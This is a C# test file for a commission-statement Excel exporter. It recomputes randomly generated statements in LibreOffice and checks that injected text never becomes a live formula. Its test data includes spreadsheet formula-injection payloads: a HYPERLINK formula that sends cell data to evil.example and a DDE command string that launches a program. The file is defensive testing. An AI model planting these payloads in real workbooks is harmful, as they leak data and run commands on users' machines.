using System.Diagnostics;
using RevOps.Core.Commission;
using RevOps.Core.Commission.Excel;
using RevOps.Tests.Reports;
using RevOps.Tests.TestKit;

namespace RevOps.Tests.Commission.Excel;

/// <summary>Statements of companies drawn by a seed, all computed again by LibreOffice: no cent off, no error, and no text that runs.</summary>
public sealed class RandomStatementTests(ITestOutputHelper output) : IDisposable
{
    private static readonly string[] Bodies = ["1+1", "HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "cmd|'/C calc'!A0"];
    private readonly string _folder = Directory.CreateTempSubdirectory("revops-test-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData(1, 10)]
    public void Every_statement_computes_itself_again(int seed, int people) => Reperform(seed, people);

    /// <summary>The 500 of the acceptance, in five companies; a few minutes, so only when asked for.</summary>
    [Theory(Explicit = true)]
    [InlineData(11)]
    [InlineData(12)]
    [InlineData(13)]
    [InlineData(14)]
    [InlineData(15)]
    public void A_hundred_statements_compute_themselves_again(int seed) => Reperform(seed, 9);

    private void Reperform(int seed, int people)
    {
        List<string> evil = [.. FormulaTests.Prefixes.SelectMany(_ => Bodies, (prefix, body) => prefix + body)];
        using var company = new RandomPlans(seed).Company(people, evil);
        var statements = company.Run("2026-12-31");
        var book = company.Book("2026-12-31");
        var clock = Stopwatch.StartNew();
        var path = Path.Combine(_folder, $"{seed}.xlsx");
        using (var target = new FileStream(path, FileMode.Create, FileAccess.Write))
            StatementWorkbook.WriteTogether(statements.GroupBy(statement => statement.Payee.Id).Select(payee => (IReadOnlyList<CommissionStatement>)[.. payee]), book, StatementWorkbookTests.Head, target);
        var written = clock.Elapsed;

        var opened = LibreOffice.Open([path]).Values.Single();

        var differences = WorkbookCells.Differences(path, opened, out var formulas);
        output.WriteLine($"seed {seed}: {statements.Count} statements, {statements.Sum(statement => statement.Parts.Sum(part => part.Lines.Count))} lines, {formulas} formulas, written in {written.TotalSeconds:0.0} s, opened by {clock.Elapsed.TotalSeconds:0.0} s");
        Assert.True(differences.Count == 0, $"{differences.Count} of {formulas} differ\n{string.Join('\n', differences.Take(25))}");
        Assert.All(WorkbookCells.Checks(opened), check => Assert.Equal(0m, check));
        var texts = opened.Values.SelectMany(rows => rows).SelectMany(row => row).Where(cell => Bodies.Any(body => cell.Text.Contains(body, StringComparison.Ordinal))).ToList();
        Assert.NotEmpty(texts);
        Assert.All(texts, text => Assert.Null(text.Formula));
    }
}
